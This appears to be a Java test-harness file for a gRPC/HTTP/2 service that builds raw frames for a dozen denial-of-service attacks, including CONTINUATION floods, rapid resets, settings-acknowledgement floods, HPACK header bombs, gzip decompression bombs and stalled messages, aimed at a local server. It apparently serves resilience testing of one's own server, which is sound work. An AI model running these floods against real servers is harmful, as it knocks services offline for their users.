package io.github.pgwatchrpc.interop;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.zip.GZIPOutputStream;

/** What can be done to HTTP/2 and gRPC, most of it without a key. */
final class Http2Attacks {

    /** As many calls as a connection may have at a time. */
    private static final int CALLS = 256;

    private static final int FRAME = 16 << 10;

    private Http2Attacks() {}

    private static byte[] garbage(int length) {
        return new byte[length]; // never looked at
    }

    /** A header block that never ends, on each of thousands of connections. */
    static void endlessHeaders(Siege siege) throws IOException {
        Http2Bytes bytes = new Http2Bytes().begin().frame(Http2Bytes.HEADERS, 0, 1, Http2Bytes.call("/a"));
        for (int i = 0; i < 6; i++) {
            bytes.frame(Http2Bytes.CONTINUATION, 0, 1, garbage(FRAME));
        }
        crowd(siege, 8_000, bytes, 5);
    }

    /** A frame that never ends. */
    static void unfinishedFrames(Siege siege) throws IOException {
        Http2Bytes bytes = new Http2Bytes()
                .begin()
                .frameHeader(FRAME, Http2Bytes.HEADERS, 0, 1)
                .raw(garbage(FRAME - 1));
        crowd(siege, 9_800, bytes, 4);
    }

    /** Somebody who wants to know at once when the health changes, two and a half million times. */
    static void watchers(Siege siege) throws IOException {
        Http2Bytes bytes = new Http2Bytes().begin();
        for (int i = 0; i < CALLS; i++) {
            bytes.frame(
                            Http2Bytes.HEADERS,
                            Http2Bytes.END_HEADERS,
                            2 * i + 1,
                            i == 0 ? Http2Bytes.call(Http2Bytes.HEALTH + "Watch") : Http2Bytes.again())
                    .frame(Http2Bytes.DATA, Http2Bytes.END_STREAM, 2 * i + 1, Http2Bytes.message(false));
        }
        crowd(siege, 9_800, bytes, 4);
    }

    /** Calls whose message never comes. */
    static void callsWithoutMessage(Siege siege) throws IOException {
        Http2Bytes bytes = new Http2Bytes().begin();
        for (int i = 0; i < CALLS; i++) {
            bytes.frame(
                    Http2Bytes.HEADERS,
                    Http2Bytes.END_HEADERS,
                    2 * i + 1,
                    i == 0 ? Http2Bytes.call(Http2Bytes.HEALTH + "Check") : Http2Bytes.again());
        }
        crowd(siege, 9_800, bytes, 4);
    }

    /** Messages to health that promise the longest and bring nearly all of it; the room for it is others' too. */
    static void unfinishedMessages(Siege siege) throws Exception {
        int promised = 16 << 20;
        byte[] begin = Arrays.copyOf(Http2Bytes.promise(promised), promised - 100);
        each(siege, 16, (peer, until) -> {
            peer.headers(1, false, Http2Bytes.call(Http2Bytes.HEALTH + "Check"));
            peer.data(1, begin, until);
        });
    }

    /** Whose name is asked for is remembered as long as the watcher watches. */
    static void watchersOfLongNames(Siege siege) throws Exception {
        int name = 4 << 20;
        byte[] message = new Http2Bytes()
                .raw((byte) 0x0a)
                .raw(varint(name))
                .raw(garbage(name))
                .toBytes();
        byte[] whole = Http2Bytes.message(false, message);
        each(siege, 4, (peer, until) -> {
            byte[] call = Http2Bytes.call(Http2Bytes.HEALTH + "Watch");
            for (int i = 0; i < CALLS && System.nanoTime() < until; i++) {
                peer.headers(2 * i + 1, false, call);
                peer.data(2 * i + 1, whole, until);
            }
        });
    }

    private static byte[] varint(int value) {
        Http2Bytes bytes = new Http2Bytes();
        int rest = value;
        for (; rest >= 128; rest >>>= 7) {
            bytes.raw((byte) (rest % 128 + 128));
        }
        return bytes.raw((byte) rest).toBytes();
    }

    /** Sixteen kilobytes that become sixteen megabytes, over and over. */
    static void packedMessages(Siege siege) throws IOException {
        packed(siege, Http2Bytes.HEALTH + "Check");
    }

    /** The same by somebody who has a key. */
    static void packedMessagesWithKey(Siege siege) throws IOException {
        packed(siege, "/Receiver/UpdateMeasurements", "password", siege.key());
    }

    private static void packed(Siege siege, String path, String... more) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write(garbage((16 << 20) - 100));
        }
        byte[] message = Http2Bytes.message(true, packed.toByteArray());
        List<String> headers = new ArrayList<>(List.of(more));
        headers.addAll(List.of("grpc-encoding", "gzip"));
        byte[] call = Http2Bytes.call(path, headers.toArray(String[]::new));
        Http2Bytes bytes = new Http2Bytes().begin();
        // as much as may be sent unasked
        for (int i = 0; i < 3; i++) {
            bytes.frame(Http2Bytes.HEADERS, Http2Bytes.END_HEADERS, 2 * i + 1, call)
                    .frame(Http2Bytes.DATA, 0, 2 * i + 1, Arrays.copyOf(message, Math.min(FRAME, message.length)));
            if (message.length > FRAME) {
                bytes.frame(
                        Http2Bytes.DATA,
                        Http2Bytes.END_STREAM,
                        2 * i + 1,
                        Arrays.copyOfRange(message, FRAME, message.length));
            }
        }
        crowd(siege, 200, bytes, 4);
    }

    /** Questions of somebody with a key who does not read the answers. */
    static void unreadReflection(Siege siege) throws Exception {
        byte[] question = Http2Bytes.message(
                false, new Http2Bytes().raw((byte) 0x22).text("Receiver").toBytes());
        ByteArrayOutputStream many = new ByteArrayOutputStream();
        for (int i = 0; i < 500_000; i++) {
            many.writeBytes(question);
        }
        byte[] call =
                Http2Bytes.call("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", "password", siege.key());
        // SETTINGS_INITIAL_WINDOW_SIZE 0
        byte[] noWindow = {0, 4, 0, 0, 0, 0};
        each(siege, 4, noWindow, (peer, until) -> {
            peer.headers(1, false, call);
            peer.data(1, many.toByteArray(), until);
        });
    }

    /** Each frame of settings has to be acknowledged, which nobody reads. */
    static void unreadAcknowledgements(Siege siege) throws IOException {
        Http2Bytes bytes = new Http2Bytes().begin();
        for (int i = 0; i < 100_000; i++) {
            bytes.frame(Http2Bytes.SETTINGS, 0, 0);
        }
        try (Crowd crowd = new Crowd(siege.port(), 1_000, bytes.toBytes()).thatDoesNotRead()) {
            Figures.show("http/2: %s", crowd.stay(4));
        }
    }

    /** Calls that are taken back at once, again and again. */
    static void rapidResets(Siege siege) throws IOException {
        Http2Bytes bytes = new Http2Bytes().begin();
        for (int i = 0; i < 5_000; i++) {
            int stream = 2 * i + 1;
            bytes.frame(
                            Http2Bytes.HEADERS,
                            Http2Bytes.END_HEADERS,
                            stream,
                            i == 0 ? Http2Bytes.call(Http2Bytes.HEALTH + "Check") : Http2Bytes.again())
                    .frame(Http2Bytes.RST_STREAM, 0, stream, (byte) 0, (byte) 0, (byte) 0, (byte) 8);
        }
        try (Crowd crowd = new Crowd(siege.port(), 200, bytes.toBytes()).renewed()) {
            Figures.show("http/2: %s", crowd.stay(4));
        }
    }

    /** Small frames that cost the receiver more than the sender. */
    static void uselessFrames(Siege siege) throws IOException {
        Http2Bytes bytes = new Http2Bytes().begin();
        for (int i = 0; i < 50_000; i++) {
            bytes.frame(Http2Bytes.WINDOW_UPDATE, 0, 0, (byte) 0, (byte) 0, (byte) 0, (byte) 1)
                    .frame(2, 0, 2 * i + 1, (byte) 0, (byte) 0, (byte) 0, (byte) 0, (byte) 16)
                    .frame(99, 0, 0);
        }
        try (Crowd crowd = new Crowd(siege.port(), 200, bytes.toBytes()).renewed()) {
            Figures.show("http/2: %s", crowd.stay(4));
        }
    }

    /** Few bytes that name a long header again and again. */
    static void headersFromTheTable(Siege siege) throws IOException {
        Http2Bytes first = new Http2Bytes()
                .raw(Http2Bytes.call("/a"))
                .raw((byte) 0x40)
                .text("b")
                .text("c".repeat(3_900));
        Http2Bytes bytes = new Http2Bytes().begin().frame(Http2Bytes.HEADERS, 5, 1, first.toBytes());
        byte[] bomb = new byte[FRAME];
        Arrays.fill(bomb, (byte) 0xbe);
        for (int i = 1; i < 60; i++) {
            bytes.frame(Http2Bytes.HEADERS, 5, 2 * i + 1, bomb);
        }
        try (Crowd crowd = new Crowd(siege.port(), 200, bytes.toBytes()).renewed()) {
            Figures.show("http/2: %s", crowd.stay(4));
        }
    }

    private static void crowd(Siege siege, int size, Http2Bytes bytes, int seconds) throws IOException {
        try (Crowd crowd = new Crowd(siege.port(), size, bytes.toBytes())) {
            Figures.show("http/2: %s", crowd.stay(seconds));
        }
    }

    /** What one connection does until it is time. */
    @FunctionalInterface
    private interface Script {
        void play(Http2Peer peer, long untilNanos) throws IOException, InterruptedException;
    }

    private static final int SECONDS = 8;

    private static void each(Siege siege, int connections, Script script) throws Exception {
        each(siege, connections, new byte[0], script);
    }

    private static void each(Siege siege, int connections, byte[] settings, Script script) throws Exception {
        long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(SECONDS);
        List<Thread> threads = new ArrayList<>();
        for (int i = 0; i < connections; i++) {
            Http2Peer peer = new Http2Peer(siege.connect("127.0.0.2"), settings);
            Thread thread = new Thread(
                    () -> {
                        try (peer) {
                            script.play(peer, until);
                            TimeUnit.NANOSECONDS.sleep(Math.max(0, until - System.nanoTime()));
                        } catch (IOException e) {
                            // thrown out, as it should be
                        } catch (InterruptedException e) {
                            throw new AssertionError(e);
                        }
                    },
                    "attacker-" + i);
            threads.add(thread);
            thread.start();
        }
        for (Thread each : threads) {
            each.join();
        }
    }
}
